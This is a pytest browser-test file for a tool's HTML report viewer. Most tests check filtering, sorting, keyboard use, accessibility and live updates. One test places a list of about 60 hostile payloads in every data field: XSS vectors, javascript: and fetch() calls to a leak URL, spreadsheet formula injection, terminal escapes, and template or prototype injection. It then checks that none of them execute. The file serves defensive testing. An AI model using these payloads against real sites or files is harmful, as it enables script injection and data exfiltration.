"""The page in a headless browser: what a person does with it, live and from a file, and hostile text in every field."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest

from fakes import fake_evaluation, fake_metrics
from paragator.core.types import Choice, Completion, Failure, Grade, Group, Plan, Problem, Prompt, Trace
from paragator.records import Graded, append, append_json_lines
from paragator.report.page import write_report, write_reports
from paragator.report.strategies import write_tables
from paragator.stats.strategies import StrategyTable

api = pytest.importorskip("playwright.sync_api", reason="needs playwright: pip install playwright")
CHROMIUM = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
AXE = find_spec("axe_playwright_python")
pytestmark = pytest.mark.skipif(not CHROMIUM, reason="needs chromium (apt-get install chromium), or CHROMIUM=its path")

LEAK = "http://127.0.0.1:9/leak"
DO = f"window.pwned=1;fetch('{LEAK}')"
MARKUP = [
    f"<script>{DO}</script>", f"</script><script>{DO}</script>", f"<ScRiPt>{DO}</sCrIpT>", f"<script src={LEAK}></script>",
    f"<img src=x onerror=\"{DO}\">", f"<img src={LEAK}>", f"<svg onload=\"{DO}\">", f"<svg><script>{DO}</script></svg>",
    f"<iframe srcdoc=\"<script>parent.{DO}</script>\">", f"<iframe src=\"javascript:{DO}\">", f"<body onload=\"{DO}\">",
    f"<details open ontoggle=\"{DO}\">", f"<input autofocus onfocus=\"{DO}\">", f"<video><source onerror=\"{DO}\"></video>",
    f"<math><mi xlink:href=\"javascript:{DO}\">x</mi></math>", f"<link rel=stylesheet href={LEAK}>", f"<base href={LEAK}>",
    f"<meta http-equiv=refresh content=\"0;url={LEAK}\">", f"<form action={LEAK}><button autofocus>", f"<object data={LEAK}>",
    f"<embed src={LEAK}>", f"<style>@import '{LEAK}';</style>", f"<div style=\"background:url({LEAK})\">x</div>",
    f"<template><script>{DO}</script></template>", f"<!--<script>{DO}</script>", "<!-- </script> -->", f"]]><script>{DO}</script>",
    f"\"><script>{DO}</script>", f"'\" onmouseover='{DO}' x=\"", f"` onerror=`{DO}`", f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"<noscript><p title=\"</noscript><img src=x onerror={DO}>\">", f"<a href=\"javascript:{DO}\">a</a>",
    f"<a ping={LEAK} href=#>a</a>",
]  # fmt: skip
OTHERS = [
    f"[a](javascript:{DO})", f"![a]({LEAK})", f"[a]: {LEAK}", f"javascript:{DO}", f"data:text/html,<script>{DO}</script>", LEAK,
    f"$\\href{{javascript:{DO}}}{{x}}$", f"$\\url{{{LEAK}}}$", f"$\\includegraphics{{{LEAK}}}$", f"$\\htmlData{{a={DO}}}{{x}}$",
    f"$\\htmlStyle{{background:url({LEAK})}}{{x}}$", "$\\def\\a{\\a\\a}\\a$", "$" + "{" * 300 + "$", "$\\rule{1000em}{1000em}$",
    f"$\\text{{<img src=x onerror={DO}>}}$", f"\\[<script>{DO}</script>\\]", "$\\unknown{$ and $$x", f"$${DO}$$",
    "\x1b[2J\x1b]0;title\x07", "\x1b]8;;" + LEAK + "\x1b\\link\x1b]8;;\x1b\\",
    "\u202egnp.exe\u202c \u2066x\u2069", "\ud800 and \udc00",
    "\x00\x01\x7f\x9b", "\u2028;" + DO + ";\u2029", "a" * 200_000, "x\u0301" * 5000,
    "=HYPERLINK(\"" + LEAK + "\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r\n=1+1", " =1+1",
    "__proto__", "constructor", "{{constructor.constructor('" + DO + "')()}}", "${" + DO + "}",
]  # fmt: skip
PAYLOADS = MARKUP + OTHERS


VIEWS = {
    "overview": ".u-legend",
    "rollouts": "a.problem",
    "problem&run=one&file=eval_after&n=5&card=1.0": "[data-card='1.0'] .body",
}
"""A view -> what is there once it is drawn."""


def hostile(payload: str, n: int) -> Graded:
    """A trace with a payload in every field that a model or a data file writes."""
    grade = Grade("incorrect", payload, payload)
    first = Group(Prompt(payload), (Completion(payload, thinking=payload), Failure(payload)), reductions=(payload,))
    later = Group(Prompt(payload), (Completion(f"{payload} {n}"),), stage="aggregate", pool=(0,), reductions=(payload,))
    problem = Problem(f"{payload} {n}", payload, {payload: payload})
    trace = Trace(problem, Plan.method(1, 1), 0, ((first,), (later,)), payload, {"strategy": payload, payload: payload})
    return Graded(trace, (((grade, None),), ((grade,),)))


def make_run(path: Path, gain: float = 0.1, problems: int = 60) -> Path:
    path.mkdir(parents=True)
    config = {"name": path.name, "method": {"name": "paragator"}, "eval": {"k": 4}, "train": {"steps": 40}}
    (path / "config.json").write_text(json.dumps(config))
    (path / "manifest.json").write_text("{}")
    append_json_lines(path / "metrics.jsonl", fake_metrics())
    append(path / "eval_before.jsonl", fake_evaluation(0.0, problems))
    append(path / "eval_after.jsonl", fake_evaluation(gain, problems, seed=1))
    append(path / "traces.jsonl", fake_evaluation(0.05, problems=5))
    return path


def with_choice(record: Graded, round_: int) -> Graded:
    """A strategy's record that answers with the first solution of a round."""
    choice = Choice(round_, (1.0, *(0.0,) * (len(record.trace.population(round_)) - 1)))
    rounds = tuple(
        tuple(replace(g, num_prompt_tokens=9) for g in groups) for groups in record.trace.rounds[: round_ + 1]
    )
    return Graded(replace(record.trace, rounds=rounds, choice=choice), record.grades[: round_ + 1])


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with api.sync_playwright() as play:
        found = play.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield found
        found.close()


class Watched:
    """A page of the browser, and everything that it must not do: errors, messages, requests to elsewhere."""

    def __init__(self, browser: Any, **how: Any) -> None:
        self.page = browser.new_page(**{"viewport": {"width": 1200, "height": 900}, **how})
        self.page.set_default_timeout(30_000)
        api.expect.set_options(timeout=30_000)  # expect looks again from outside: the page forbids eval
        self.odd: list[str] = []
        self.requests: list[str] = []
        self.page.on("console", lambda m: self.odd.append(m.text) if m.type in ("error", "warning") else None)
        self.page.on("pageerror", lambda error: self.odd.append(str(error)))
        self.page.on("dialog", lambda dialog: self.odd.append("a dialog"))
        self.page.on("request", lambda request: self.requests.append(request.url))

    def saved(self, button: str) -> str:
        with self.page.expect_download() as found:
            self.page.get_by_role("button", name=button, exact=True).click()
        return str(Path(found.value.path()).read_text(encoding="utf-8"))

    def axe(self, **options: Any) -> list[str]:
        """What axe finds serious."""
        if AXE is None or AXE.origin is None:
            pytest.skip("needs axe: pip install axe-playwright-python")
        if not self.page.evaluate("'axe' in window"):
            self.page.evaluate(Path(AXE.origin).with_name("axe.min.js").read_text(encoding="utf-8"))
        found = self.page.evaluate("options => axe.run(options)", {"resultTypes": ["violations"], **options})[
            "violations"
        ]
        return [f"{v['id']}: {v['nodes'][0]['html']}" for v in found if v["impact"] in ("serious", "critical")]


@pytest.fixture
def watched(browser: Any) -> Iterator[Watched]:
    found = Watched(browser)
    yield found
    found.page.close()
    assert found.odd == []


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """The address of `paragator view`, and its folder of two runs."""
    runs = tmp_path / "runs"
    for name, gain in (("one", 0.1), ("two", 0.05)):
        make_run(runs / name, gain)
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}
    command = [sys.executable, "-m", "paragator", "view", str(runs), "--port", "0"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env=env) as process:
        try:
            assert process.stdout
            yield process.stdout.readline().split()[0], runs
        finally:
            process.terminate()


def test_a_lost_right_answer_is_found(watched: Watched, tmp_path: Path) -> None:
    """The clicks of docs/page.md: filter, open, follow the pool's lines, compare, link."""
    page = watched.page
    page.goto(write_report(make_run(tmp_path / "one")).as_uri())
    for question in ("Did it learn?", "Does aggregation pay?", "Is something wrong?"):
        api.expect(page.get_by_role("heading", name=question)).to_be_visible()
    page.locator("canvas").nth(3).wait_for()
    page.get_by_role("navigation").get_by_role("link", name="Rollouts").click()
    page.locator("a.problem").nth(19).wait_for()  # of all problems; of those below there are fewer
    page.get_by_label("Show").select_option("lost")
    api.expect(page.locator("tbody tr").nth(19)).to_have_count(0)
    marks = page.locator("tbody tr").first.locator(".marks")
    api.expect(marks).to_have_attribute("aria-label", re.compile("round 2: 0 of 4 right"))
    page.locator("a.problem").first.click()
    api.expect(page.locator(".card")).to_have_count(12)
    api.expect(page.locator(".column")).to_have_count(3)
    aim = page.locator('[data-card="1.0"] .head')
    aim.hover()
    api.expect(page.locator(".lines path.on")).to_have_count(4 + 4)  # its pool, and what it is shown to
    page.locator(".card.near").nth(3).wait_for()
    aim.click()
    page.get_by_role("button", name="Compare with the nearest candidate").click()
    api.expect(page.locator(".diff")).to_have_text(re.compile("^Nearest in its pool: #"))
    page.locator('[data-card="1.0"]').get_by_role("link", name="link").click()
    api.expect(page).to_have_url(re.compile(r"card=1\.0"))
    page.reload()
    api.expect(page.locator('[data-card="1.0"] .head')).to_have_attribute("aria-expanded", "true")
    assert all(url.startswith(("file:", "blob:")) for url in watched.requests)


def test_sorting_searching_and_saving(watched: Watched, tmp_path: Path) -> None:
    page = watched.page
    page.goto(write_report(make_run(tmp_path / "one")).as_uri() + "#view=rollouts")
    for order in ("ascending", "descending"):
        page.get_by_role("button", name="tokens").click()
        api.expect(page.locator(f"th[aria-sort={order}]")).to_have_text(re.compile("^tokens"))
    page.keyboard.press("/")
    page.keyboard.type("problem 17")
    api.expect(page.locator("tbody tr")).to_have_count(1)
    (line,) = watched.saved("Save JSONL").splitlines()
    assert json.loads(line)["problem"] == "p17" and json.loads(line)["n"] == 17
    rows = list(csv.DictReader(io.StringIO(watched.saved("Save CSV"), newline="")))
    assert len(rows) == 12 and {row["problem"] for row in rows} == {"p17"} and rows[4]["pool"] == "2 0 3 1"


def test_two_runs_side_by_side(watched: Watched, tmp_path: Path) -> None:
    page = watched.page
    runs = [make_run(tmp_path / "one"), make_run(tmp_path / "two", 0.05)]
    page.goto(write_reports(runs, tmp_path / "both.html").as_uri())
    api.expect(page.locator("section.run")).to_have_count(2)
    page.locator(".u-legend tr", has_text="one, ").first.wait_for(state="attached")
    samples = (
        page.locator(".u-legend tr", has_text="one, ")
        .locator(".u-marker")
        .evaluate_all("all => all.map(one => getComputedStyle(one).backgroundImage.startsWith('repeating'))")
    )
    assert True in samples and False in samples  # the legend tells the dashed line from the other
    page.get_by_label("one line a method").click()
    page.get_by_role("group", name="Runs").get_by_label("two").click()
    api.expect(page.locator("section.run")).to_have_count(1)
    page.goto(page.url.partition("#")[0] + "#view=problem&run=one&file=eval_after&n=5")
    page.locator("#beside").select_option(label="two, after training")
    api.expect(page.locator(".rounds")).to_have_count(2)
    api.expect(page.get_by_role("heading", name="Beside: two, after training")).to_be_visible()


def test_keyboard_theme_narrow_and_print(browser: Any, watched: Watched, tmp_path: Path) -> None:
    page, where = watched.page, write_report(make_run(tmp_path / "one")).as_uri()
    early = "document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'r', bubbles: true }))"
    page.add_init_script(f"addEventListener('DOMContentLoaded', () => {early})")  # before the first paint
    page.goto(where)
    page.locator("a.problem").first.wait_for()
    page.locator("a.problem").first.focus()
    page.keyboard.press("Enter")
    page.locator(".card .head").first.wait_for()
    title = page.locator("main h2").first.inner_text()
    page.keyboard.press("]")
    api.expect(page.locator("main h2").first).not_to_have_text(title)
    page.locator(".card .head").first.focus()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowDown")
    api.expect(page.locator('[data-card="1.1"] .head')).to_be_focused()
    page.keyboard.press("Enter")
    api.expect(page.locator('[data-card="1.1"] .head')).to_have_attribute("aria-expanded", "true")
    backs = set()
    for theme in ("light", "dark", "auto"):
        page.keyboard.press("t")
        api.expect(page.locator("html")).to_have_attribute("data-theme", theme)
        backs.add(page.evaluate("getComputedStyle(document.body).backgroundColor"))
    assert len(backs) == 2
    page.emulate_media(media="print")
    api.expect(page.locator("#theme")).to_be_hidden()
    api.expect(page.locator(".card").first).to_be_visible()
    narrow = Watched(browser, viewport={"width": 360, "height": 740})
    for view, drawn in VIEWS.items():
        narrow.page.goto(f"{where}#view={view}")
        narrow.page.locator(drawn).first.wait_for()
        assert narrow.page.evaluate("document.documentElement.scrollWidth") <= 360, view
    narrow.page.close()
    assert narrow.odd == []


def test_nothing_serious_for_accessibility(watched: Watched, tmp_path: Path) -> None:
    run, found = make_run(tmp_path / "one", problems=12), fake_evaluation(0.1, 12)
    played = {
        name: [with_choice(record, round_) for record in found] for name, round_ in (("majority", 0), ("aggregate", 2))
    }
    write_tables(StrategyTable(played), run)
    where = write_report(run).as_uri()
    watched.page.goto(where)
    shown = watched.page.get_by_role("region", name="Strategies, one")
    shown.locator(".u-legend", has_text="a vote among candidates").wait_for()
    shown.locator(".scroll tbody tr", has_text="aggregate").nth(1).wait_for()  # what it costs, what it gains
    for view, drawn in VIEWS.items():
        watched.page.goto("about:blank")
        watched.page.goto(f"{where}#view={view}")
        watched.page.locator(drawn).first.wait_for()
        assert watched.axe() == [], view
        for theme in ("light", "dark"):
            watched.page.locator("#theme").click()
            api.expect(watched.page.locator("html")).to_have_attribute("data-theme", theme)
        assert watched.axe(runOnly=["color-contrast"]) == [], (view, "dark")
    watched.page.evaluate("document.querySelector('main').append(document.createElement('button'))")
    assert watched.axe(runOnly=["button-name"]) == ["button-name: <button></button>"]  # it would say so


def test_panels_that_only_some_runs_have(watched: Watched, tmp_path: Path) -> None:
    """The gradients of the stages where they were measured, strategies' rollouts where some were played."""
    plain, run, page = make_run(tmp_path / "plain"), make_run(tmp_path / "one"), watched.page
    measured = {"generate/grad_norm": 0.5, "aggregate/grad_norm": 1.5, "stage_cosine": 0.25, "balance": 3.0}
    append_json_lines(run / "metrics.jsonl", [{"step": 35, **measured}, {"step": 40, **measured, "balance": 2.5}])
    played = [with_choice(record, 0) for record in fake_evaluation(0.1, 7)]
    append(run / "strategies" / "confidence-keep=0.5.jsonl", played)
    page.goto(write_report(plain).as_uri())
    page.locator(".u-legend").first.wait_for()
    api.expect(page.get_by_text("Gradients of the stages")).to_have_count(0)
    page.goto(write_report(run).as_uri())
    page.get_by_label("Smoothing").fill("0")
    shown = page.get_by_role("region", name="Gradients of the stages")
    api.expect(shown.locator("figcaption b")).to_have_text(
        ["Gradient norm of each stage", "Cosine of gradients", "Balance factor"]
    )
    api.expect(shown.get_by_text("Well below 0, one undoes what the other does.")).to_be_visible()
    api.expect(shown.locator(".u-legend").first).to_have_text(
        re.compile("^steplast.*candidates.*0.5.*aggregations.*1.5$")
    )
    api.expect(shown.locator(".u-legend").last).to_have_text(re.compile("^steplast.*2.5$"))
    assert [text for text in page.locator(".u-legend").all_inner_texts() if "--" in text] == []
    shown.locator(".u-over").last.hover(position={"x": 1, "y": 50})
    api.expect(shown.locator(".u-legend").last).to_have_text(re.compile("^step35.*3$"))
    page.get_by_role("link", name="rollouts strategy confidence-keep=0.5").click()
    api.expect(page.get_by_role("status").last).to_have_text("7 problems")
    api.expect(page.get_by_role("group", name="Filters").locator("select").first).to_have_value(
        "strategies/confidence-keep=0.5"
    )
    page.locator("a.problem").first.click()
    api.expect(page.locator(".card")).to_have_count(4)
    api.expect(page.locator("main h2").first).to_contain_text("one, strategy confidence-keep=0.5")


def test_live(watched: Watched, served: tuple[str, Path]) -> None:
    """New steps and traces appear; a run that is deleted goes, one that appears comes; the zoom of a curve stays."""
    where, runs = served
    page = watched.page
    page.goto(where)
    page.get_by_text("30 of 40 steps").first.wait_for()
    page.get_by_text("yes: +").or_(page.get_by_text("not shown: +")).first.wait_for()
    append_json_lines(runs / "one" / "metrics.jsonl", [{"step": 31, "generate/reward": 0.9, "aggregate/reward": 0.9}])
    page.get_by_text("31 of 40 steps").wait_for()
    page.goto(f"{where}#view=rollouts&run=one&file=traces")
    page.get_by_text("5 of 5 problems").wait_for()
    append(runs / "one" / "traces.jsonl", fake_evaluation(0.05, problems=3, seed=9))
    page.get_by_text("8 of 8 problems").wait_for()
    make_run(runs / "three")
    page.get_by_role("link", name="three").wait_for()
    shutil.rmtree(runs / "two")
    page.get_by_role("link", name="two").wait_for(state="detached")
    assert all(url.startswith(where) for url in watched.requests)


def test_a_server_that_ends_is_named(browser: Any, served: tuple[str, Path]) -> None:
    found = Watched(browser)
    found.page.goto(served[0])
    found.page.get_by_text("30 of 40 steps").first.wait_for()
    found.page.route("**/api/**", lambda route: route.abort())
    found.page.get_by_text("The server does not answer").wait_for()
    api.expect(found.page.get_by_text("30 of 40 steps").first).to_be_visible()
    found.page.unroute("**/api/**")
    found.page.get_by_text("The server does not answer").wait_for(state="detached")
    found.page.close()


@pytest.mark.slow
@pytest.mark.parametrize("live", [False, True])
def test_hostile_text_runs_nothing_and_asks_nobody(
    watched: Watched, served: tuple[str, Path], tmp_path: Path, live: bool
) -> None:
    """Every payload in every field, in the list and on open cards with prompt, thinking and differences."""
    assert len(set(PAYLOADS)) >= 60
    csv.field_size_limit(10**7)
    evil = (served[1] if live else tmp_path) / "evil"
    evil.mkdir()
    for file in ("eval_after", "traces"):
        append(evil / f"{file}.jsonl", [hostile(payload, n) for n, payload in enumerate(PAYLOADS)])
    config = {name: {"name": f"{name}{MARKUP[i]}", "path": MARKUP[i + 1], "steps": 3} for i, name in
              enumerate(("method", "model", "task", "train"))}  # fmt: skip
    (evil / "config.json").write_text(json.dumps({**config, "name": MARKUP[1], MARKUP[2]: MARKUP[3]}))
    (evil / "manifest.json").write_text(json.dumps({"started": MARKUP[4], MARKUP[1]: MARKUP[1]}))
    cell = {"mean": 0.5, "low": 0.4, "high": 0.6}
    labelled = {label: {"accuracy": cell, "tokens": {**cell, "mean": 50 + i}} for i, label in enumerate(MARKUP)}
    rows = [["strategy", MARKUP[5]], *([label, label] for label in MARKUP)]
    strategies = {"strategies": labelled, "partial": MARKUP[0], "sheets": [{"title": MARKUP[1], "cells": rows}]}
    (evil / "strategies.json").write_text(
        json.dumps({**strategies, "notes": MARKUP, "votes": [[9.0, cell], [99.0, None]]})
    )
    append_json_lines(evil / "metrics.jsonl", [{"step": 1, MARKUP[0]: 1.0, "generate/reward": 0.5}, {"step": 2}])
    where = served[0] if live else write_report(evil).as_uri()
    page = watched.page
    page.goto(where + "#view=rollouts&run=evil&file=eval_after")
    if live:
        page.get_by_text(f"{len(PAYLOADS)} of {len(PAYLOADS)} problems").wait_for()
    page.locator("a.problem").first.wait_for()
    for n in range(len(PAYLOADS)):
        page.goto(f"{where}#view=problem&run=evil&file=eval_after&n={n}")
        api.expect(page.locator("main h2").first).to_contain_text(f" {n} evil")
        page.get_by_role("button", name="Open all").click()
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        page.get_by_role("button", name="Compare with").click()
        api.expect(page.locator(".diff")).to_be_visible()
    lines = list(csv.reader(io.StringIO(watched.saved("Save CSV"), newline="")))
    assert len(lines) == 4
    page.goto(where + "#view=rollouts&run=evil&file=eval_after")
    page.locator("a.problem").first.wait_for()
    fields = [field for row in csv.reader(io.StringIO(watched.saved("Save CSV"), newline="")) for field in row]
    numbers = {field for field in fields if field.lstrip("-").replace(".", "").isdigit()}
    assert not [f for f in fields if f.strip()[:1] in tuple("=+-@") and f not in numbers]
    page.goto(where + "#view=overview")
    page.get_by_text("Is something wrong?").first.wait_for()
    assert page.evaluate("window.pwned") is None
    allowed = (where.partition("#")[0], "blob:")
    assert [url for url in watched.requests if not url.startswith(allowed)] == []
    assert page.evaluate("document.querySelectorAll('#app script, #app iframe, #app img, #app object').length") == 0
